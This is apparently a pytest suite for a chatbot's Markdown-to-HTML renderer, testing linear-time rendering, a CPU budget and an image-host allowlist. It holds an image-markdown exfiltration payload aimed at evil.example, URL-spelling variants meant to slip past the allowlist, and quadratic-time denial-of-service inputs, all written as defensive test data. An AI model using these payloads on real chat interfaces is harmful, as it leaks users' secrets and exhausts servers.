"""Rendering costs time linear in the text, whatever the text (flask_chatbot/rendering/renderer.py,
flask_chatbot/rendering/markdown_linear.py); a CPU budget stops what would not; images load only
from allowed hosts.

The families below are texts found to be slow; most once cost Python-Markdown (or
bleach, or Python's HTML parser) time quadratic in their length: 16 KB of ``![`` took
16 s. The growth tests render a family at n and 8n characters and compare CPU time
(``time.thread_time``, the least of a few runs): linear is 8x, quadratic 64x; the bound
is 20x.
"""

from __future__ import annotations

import gc
import logging
import random
import time
from collections.abc import Callable
from html.parser import HTMLParser

import markdown
import pytest
from markdown.extensions.tables import TableExtension

from flask_chatbot.rendering import renderer as rendering
from flask_chatbot.rendering.markdown_linear import MAX_NESTING, LinearMarkdown
from flask_chatbot.rendering.renderer import ALLOWED_TAGS, Renderer, RenderOptions, _RawHtmlAsText

GROWTH_LIMIT = 20.0  # for 8x the text: linear is 8, quadratic 64


def repeat(unit: str) -> Callable[[int], str]:
    return lambda n: (unit * (n // len(unit) + 1))[:n]


def backtick_runs(n: int) -> str:
    out, k = [], 1
    while sum(map(len, out)) < n:
        out.append("`" * k + "a")
        k += 1
    return "".join(out)[:n]


def wide_table(n: int) -> str:
    k = n // 6
    return "|" + "a|" * k + "\n|" + "-|" * k + "\n|" + "b|" * k


def mixed(n: int) -> str:
    rng = random.Random(1)
    return "".join(rng.choice("*_[]()!<>&`|#>- \n\\a") for _ in range(n))


# name: (text of n characters, what must show as text in the HTML, or None)
FAMILIES: dict[str, tuple[Callable[[int], str], str | None]] = {
    "unclosed image": (repeat("!["), "![!["),
    "unclosed link": (repeat("["), "[[[["),
    "unclosed link text": (repeat("[a"), "[a[a"),
    "reference": (repeat("[a]["), "[a][[a]["),
    "link destination": (repeat("[a]("), "[a]([a]("),
    "link destination in angle brackets": (repeat("[a](<"), "[a](<[a](<"),
    "link destination of parentheses": (repeat("[a]((("), "[a]((([a]"),
    "unclosed link title": (repeat('[a](b "'), None),  # Markdown makes one long link of it
    "emphasis *": (repeat("*a"), None),
    "strong emphasis **": (repeat("**a"), None),
    "mixed emphasis *_": (repeat("*_a"), None),
    "nested quotes >": (repeat(">"), ">>>>"),
    "nested quotes > >": (repeat("> "), "> > "),
    "unmatched backtick runs": (repeat("``a`"), "``a```a"),
    "backtick runs of growing length": (backtick_runs, None),
    "angle brackets <": (repeat("<"), "<<<<"),
    "angle brackets <a": (repeat("<a"), "<a<a"),
    "angle brackets <a space": (repeat("<a "), "<a <a "),
    "autolink-like <http://": (repeat("<http://"), "<http://<http://"),
    "automail-like <a@": (repeat("<a@"), "<a@<a@"),
    "CDATA <![CDATA[": (repeat("<![CDATA["), "<![CDATA[<![CDATA["),
    "nested lists": (repeat("1. "), None),  # past Python's recursion limit: shown as typed
    "ampersands": (repeat("&"), "&&&&"),
    "table of many columns": (wide_table, None),
    "headings ending in a pipe": (repeat("# a|\n"), "a|"),
    "table separators between headings": (repeat("|-|\n|-|\n# a|\n"), None),
    "horizontal rules": (repeat("***\n"), None),
    "setext headings": (repeat("a\n-\n"), None),
    "empty fenced code blocks": (repeat("```\n"), None),
    "unclosed fences with a language": (repeat("```a\n"), None),
    "escapes": (repeat("\\*"), "****"),
    "line breaks": (repeat("a\n"), None),
    "Markdown characters at random": (mixed, None),
}
# Block-level re-scans show their square only from a few KB on: measured at 2 KB and 16 KB.
AT_2_KB = {
    "headings ending in a pipe",
    "table separators between headings",
    "horizontal rules",
    "setext headings",
    "unclosed fences with a language",
    "escapes",
}
# Raw HTML in replies goes through Python's HTMLParser and html5lib, which the user's
# text never reaches; these families are tested as replies too.
HTML_FAMILIES = ["angle brackets <", "CDATA <![CDATA[", "ampersands"]
# Quadratic in Python's HTMLParser (until CPython's fix for gh-135462), or in html5lib
# (deeply nested open tags): bounded by the budget instead.
BUDGETED_REPLY_FAMILIES = {
    "angle brackets <a space": repeat("<a "),
    "autolink-like <http://": repeat("<http://"),
    "unclosed <div>": repeat("<div>"),
    "angle brackets <a": repeat("<a"),
    "automail-like <a@": repeat("<a@"),
}


class _Html(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)

    handle_startendtag = handle_starttag

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def parse(out: str) -> _Html:
    parser = _Html()
    parser.feed(out)
    parser.close()
    return parser


def cpu(work: Callable[[], object]) -> float:
    gc.collect()
    gc.disable()  # a collection of someone else's garbage is not this render's cost
    try:
        start = time.thread_time()
        work()
        return time.thread_time() - start
    finally:
        gc.enable()


def growth(renderer: Renderer, make: Callable[[int], str], n: int, from_user: bool) -> tuple[float, float, float]:
    """(CPU for n characters, for 8n, their ratio): the least of a few runs each."""
    small_text, large_text = make(n), make(8 * n)
    renderer.render(small_text, from_user=from_user)  # warm
    small = min(cpu(lambda: renderer.render(small_text, from_user=from_user)) for _ in range(3))
    large = float("inf")
    for _ in range(3):  # more runs only if a busy machine made the first one look slow
        large = min(large, cpu(lambda: renderer.render(large_text, from_user=from_user)))
        if large / small < GROWTH_LIMIT:
            break
    return small, large, large / small


def assert_linear(name: str, from_user: bool, caplog: pytest.LogCaptureFixture) -> None:
    make, shows = FAMILIES[name]
    n = 2000 if name in AT_2_KB else 1000
    renderer = Renderer(RenderOptions())
    text = make(n)
    out = renderer.render(text, from_user=from_user)
    assert set(parse(out).tags) <= ALLOWED_TAGS, out[:300]
    if shows is not None:
        assert shows in "".join(parse(out).text), out[:300]
    with caplog.at_level(logging.WARNING, logger="flask_chatbot"):
        small, large, ratio = growth(renderer, make, n, from_user)
    sizes = f"{small * 1000:.1f} ms for {n // 1000} KB, {large * 1000:.1f} ms for {8 * n // 1000} KB"
    assert ratio < GROWTH_LIMIT, f"{name}: {sizes}"
    # Linear because it is rendered in linear time, not because the budget cut it short.
    assert "budget" not in caplog.text, f"{name}: {sizes}"


@pytest.mark.parametrize("name", list(FAMILIES))
def test_a_user_message_of_each_family_renders_in_linear_time(name: str, caplog: pytest.LogCaptureFixture) -> None:
    assert_linear(name, True, caplog)


@pytest.mark.parametrize("name", HTML_FAMILIES)
def test_a_reply_of_each_html_family_renders_in_linear_time(name: str, caplog: pytest.LogCaptureFixture) -> None:
    assert_linear(name, False, caplog)


@pytest.mark.parametrize("name", list(BUDGETED_REPLY_FAMILIES))
def test_raw_html_that_python_parses_in_quadratic_time_is_stopped_by_the_budget(
    name: str, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    # 16,000 characters of "<a " cost about 2 s unbounded; the budget here is 0.13 s.
    monkeypatch.setattr(rendering, "RENDER_BUDGET_FLOOR", 0.05)
    monkeypatch.setattr(rendering, "RENDER_BUDGET_PER_CHAR", 5e-6)
    text = BUDGETED_REPLY_FAMILIES[name](16_000)
    renderer = Renderer(RenderOptions())
    renderer.render("warm", from_user=False)
    with caplog.at_level(logging.WARNING, logger="flask_chatbot"):
        out: list[str] = []
        spent = cpu(lambda: out.append(renderer.render(text, from_user=False)))
    assert spent < 0.13 * 2 + 0.05, f"{spent * 1000:.0f} ms"
    assert set(parse(out[0]).tags) <= ALLOWED_TAGS
    if name == "angle brackets <a space":
        assert out[0] == renderer._plain(text)
        assert "exceeded its CPU budget" in caplog.text


# -- the budget ------------------------------------------------------------------------


def test_a_render_over_its_budget_shows_the_text_as_typed_and_logs_one_warning(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    text = "Some **bold** secret-token-xyz <b>text</b>\nsecond line & more"
    renderer = Renderer(RenderOptions())
    normal = renderer.render(text, from_user=False)
    monkeypatch.setattr(rendering, "RENDER_BUDGET_FLOOR", 0.0)
    monkeypatch.setattr(rendering, "RENDER_BUDGET_PER_CHAR", 0.0)
    with caplog.at_level(logging.WARNING, logger="flask_chatbot"):
        out = renderer.render(text, from_user=False)
        user_out = renderer.render(text, from_user=True)
    expected = "<p>Some **bold** secret-token-xyz &lt;b&gt;text&lt;/b&gt;<br>\nsecond line &amp; more</p>"
    assert out == user_out == expected
    records = [r for r in caplog.records if r.name == "flask_chatbot"]
    assert len(records) == 2 and all(r.levelno == logging.WARNING for r in records)
    message = records[0].getMessage()
    assert f"{len(text)}-character" in message and "ms" in message and "budget" in message
    assert "secret-token-xyz" not in message  # never the text itself
    # Markdown and bleach stopped halfway are replaced, and the renderer works as before.
    monkeypatch.undo()
    assert renderer.render(text, from_user=False) == normal


def ordinary(n: int, seed: int = 1) -> str:
    """An LLM-like reply: paragraphs with inline Markdown, lists, code, a table (see bench/text.py)."""
    rng = random.Random(seed)
    words = "the reply stream renders Markdown to safe HTML for every message a user sends".split()
    blocks: list[str] = []
    while sum(len(b) + 2 for b in blocks) < n:
        sentence = " ".join(rng.choice(words) for _ in range(60))
        blocks.append(f"{sentence} **bold words** and `code()` and [a link](https://example.com/x) *too*.")
        kind = rng.randrange(4)
        if kind == 0:
            blocks.append("\n".join(f"- item {i} with `x = {i}`" for i in range(6)))
        elif kind == 1:
            blocks.append(
                "```python\n" + "\n".join(f"    value_{i} = compute({i}, [a, b])" for i in range(8)) + "\n```"
            )
        elif kind == 2:
            blocks.append("| Option | Default |\n|:--|--:|\n" + "\n".join(f"| `opt_{i}` | {i} |" for i in range(6)))
        else:
            blocks.append("## A heading\n\n1. first\n2. second")
    return "\n\n".join(blocks)


def test_ordinary_markdown_stays_far_below_its_budget() -> None:
    renderer = Renderer(RenderOptions())
    for text in (ordinary(20_000), ordinary(100_000, seed=2)):
        budget = rendering.RENDER_BUDGET_FLOOR + rendering.RENDER_BUDGET_PER_CHAR * len(text)
        renderer.render(text, from_user=True)
        spent = min(cpu(lambda: renderer.render(text, from_user=True)) for _ in range(3))  # noqa: B023
        # At least 10x headroom, not counting the floor.
        assert spent * 10 < rendering.RENDER_BUDGET_PER_CHAR * len(text), (
            f"{spent * 1000:.0f} ms of {budget * 1000:.0f} ms"
        )


def test_lists_nested_past_the_recursion_limit_show_as_text(caplog: pytest.LogCaptureFixture) -> None:
    text = "1. " * 2000
    renderer = Renderer(RenderOptions())
    with caplog.at_level(logging.WARNING, logger="flask_chatbot"):
        assert renderer.render(text, from_user=True) == renderer._plain(text)
    assert "nested too deeply" in caplog.text
    assert renderer.render("1. a\n2. b", from_user=True) == "<ol>\n<li>a</li>\n<li>b</li>\n</ol>"


def depth_of(html: str, tags: tuple[str, ...] = ("ol", "ul", "blockquote")) -> int:
    class Depth(HTMLParser):
        now = deepest = 0

        def handle_starttag(self, tag: str, attrs: object) -> None:
            if tag in tags:
                self.now += 1
                self.deepest = max(self.deepest, self.now)

        def handle_endtag(self, tag: str) -> None:
            if tag in tags:
                self.now -= 1

    parser = Depth()
    parser.feed(html)
    return parser.deepest


@pytest.mark.parametrize(
    "unit",
    ["1. ", "- ", "+ ", "> ", ">", "> - ", "- > ", "1) "],
)
def test_nesting_past_our_limit_shows_as_text_whatever_markdown_does_near_its_own(unit: str) -> None:
    # Python-Markdown 3.11.3 raised RecursionError near 150 levels; 3.11.4 keeps 446 levels
    # of lists. Our limit holds before Markdown sees the text, in every version.
    renderer = Renderer(RenderOptions())
    too_deep = unit * (MAX_NESTING + 1) + "x"
    for from_user in (True, False):
        out = renderer.render(too_deep, from_user=from_user)
        assert out == renderer._plain(too_deep)
        assert depth_of(out) == 0


def test_nesting_up_to_the_limit_renders_as_markdown() -> None:
    renderer = Renderer(RenderOptions())
    quotes = "> " * MAX_NESTING + "deep"
    assert depth_of(renderer.render(quotes, from_user=True)) == MAX_NESTING
    indented = "\n".join("    " * level + "- item" for level in range(8))
    assert depth_of(renderer.render(indented, from_user=False)) == 8
    # Deep indentation that opens nothing (code in a fence) is not nesting.
    code = "```json\n" + "\n".join(" " * (4 * level) + '{"a":' for level in range(60)) + "\n```"
    assert "<pre" in renderer.render(code, from_user=False)


def test_indented_lists_count_their_indentation() -> None:
    renderer = Renderer(RenderOptions())
    text = "\n".join("    " * level + "- item" for level in range(MAX_NESTING + 2))
    assert renderer.render(text, from_user=True) == renderer._plain(text)


# -- same HTML as Python-Markdown ---------------------------------------------------------


def stock_and_linear(from_user: bool) -> tuple[markdown.Markdown, markdown.Markdown]:
    def make(linear: bool) -> markdown.Markdown:
        extensions: list = ["fenced_code", TableExtension(use_align_attribute=True), "sane_lists", "nl2br"]
        if from_user:
            extensions.append(_RawHtmlAsText())
        if linear:
            extensions.append(LinearMarkdown())
        return markdown.Markdown(extensions=extensions, output_format="html")

    return make(False), make(True)


ALPHABETS = {
    "inline": list("[]()!\"' a<>\\`*_&")
    + ["](", "![", "[a]", "(b", ' "t"', " 't'", "\n", "``", "**", "  \n", "http://x", "&amp;"],
    "blocks": [
        "\n",
        "\n\n",
        "# a",
        "|",
        "|-|",
        "a|b",
        "-|-",
        ":-",
        "---",
        "***",
        "===",
        "a",
        " ",
        "    ",
        "> ",
        "```",
        "~~~",
    ]
    + ["```py", "- ", "1. ", "`", "#a|", "\n|", "[a]: /u\n", "<div>", "*"],
}
QUIRKS = [
    '[a](b"[a](cd',  # an unclosed title: Markdown ends the link at the last "(" and eats a character
    'x [a](b"(( yz',
    "[a](b 'c' )",
    "a``b````x````y",  # Markdown skips twice the opener's length after an unmatched run
    '``"````x (````y:```',
    "\\\\`code` and \\`not code`",
    "![a](b)[c](d)![e][f]\n\n[f]: /g",
    "|a|\n|-|\n|b|\nc",
    "# a|\n|-|\n|-|\n# b|\nx",
    "```\ncode\n```\n```a\nmore\n~~~\n```",
]


@pytest.mark.parametrize("from_user", [True, False], ids=["user", "reply"])
def test_the_linear_parts_render_exactly_what_python_markdown_does(from_user: bool) -> None:
    stock, linear = stock_and_linear(from_user)
    texts = list(QUIRKS)
    for name, alphabet in ALPHABETS.items():
        rng = random.Random(name)
        texts += ["".join(rng.choice(alphabet) for _ in range(rng.randint(1, 80))) for _ in range(400)]
    for text in texts:
        assert linear.reset().convert(text) == stock.reset().convert(text), repr(text)


# -- images ---------------------------------------------------------------------------------

LEAK = "![x](https://evil.example/?q=secret)"
LEAK_AS_LINK = '<p><a href="https://evil.example/?q=secret" target="_blank" rel="noopener noreferrer">x</a></p>'


@pytest.mark.parametrize("from_user", [True, False], ids=["user", "reply"])
def test_an_image_from_an_unlisted_host_becomes_a_link(from_user: bool) -> None:
    renderer = Renderer(RenderOptions())
    assert renderer.render(LEAK, from_user=from_user) == LEAK_AS_LINK
    assert renderer.render("![](//evil.example/x.png)", from_user=from_user) == (
        '<p><a href="//evil.example/x.png" target="_blank" rel="noopener noreferrer">image</a></p>'
    )
    assert "<img" not in renderer.render("![a & <b>](http://evil.example/x.png)", from_user=from_user)


def test_raw_img_tags_in_replies_are_checked_too_however_the_url_is_spelled() -> None:
    renderer = Renderer(RenderOptions())
    for src in [
        "https://evil.example/a.png",
        "/\\evil.example/a.png",
        "&#47;&#47;evil.example/a.png",
        " //evil.example/a",
    ]:
        out = renderer.render(f'<img src="{src}" alt="a">', from_user=False)
        assert "<img" not in out and '<a href="' in out and ">a</a>" in out, out


def test_an_image_from_a_listed_host_is_kept_whatever_its_case_or_port() -> None:
    renderer = Renderer(RenderOptions(image_hosts=("Images.Example",)))
    out = renderer.render("![x](https://images.example:8443/a.png) ![y](https://evil.example/b.png)", from_user=True)
    assert '<img alt="x" src="https://images.example:8443/a.png">' in out
    assert '<a href="https://evil.example/b.png" target="_blank" rel="noopener noreferrer">y</a>' in out


def test_a_star_allows_every_host() -> None:
    renderer = Renderer(RenderOptions(image_hosts=("*",)))
    assert renderer.render(LEAK, from_user=False) == '<p><img alt="x" src="https://evil.example/?q=secret"></p>'


def test_relative_images_are_kept() -> None:
    renderer = Renderer(RenderOptions())
    assert renderer.render("![x](/static/a.png)", from_user=True) == '<p><img alt="x" src="/static/a.png"></p>'
    assert renderer.render("![x](a.png)", from_user=False) == '<p><img alt="x" src="a.png"></p>'


def test_images_are_left_alone_when_bleach_does_not_run() -> None:
    renderer = Renderer(RenderOptions(sanitize_html=False))
    assert renderer.render(LEAK, from_user=False) == '<p><img alt="x" src="https://evil.example/?q=secret"></p>'
    assert renderer.render(LEAK, from_user=True) == LEAK_AS_LINK


def test_alt_text_with_markup_is_shown_once_escaped() -> None:
    out = Renderer(RenderOptions()).render("![a &amp; <b>](https://evil.example/x.png)", from_user=True)
    assert ">a &amp; &lt;b&gt;</a>" in out


def test_a_garbage_collection_during_a_render_is_not_charged_to_its_text() -> None:
    """A full collection runs in whichever thread triggers it, and in a process with a large heap
    it takes longer than a short message's whole budget: it must not make that message show as
    typed (it did, in a long test run)."""
    import gc

    from flask_chatbot.rendering.deadline import check_deadline, cpu_deadline

    heap = [[i] for i in range(2_000_000)]  # a large heap: a full collection takes ~0.1 s or more
    with cpu_deadline(0.02):
        start = time.thread_time()
        gc.collect()
        assert time.thread_time() - start > 0.02  # the collection alone outlasted the budget
        check_deadline()  # and yet the render may go on
    del heap
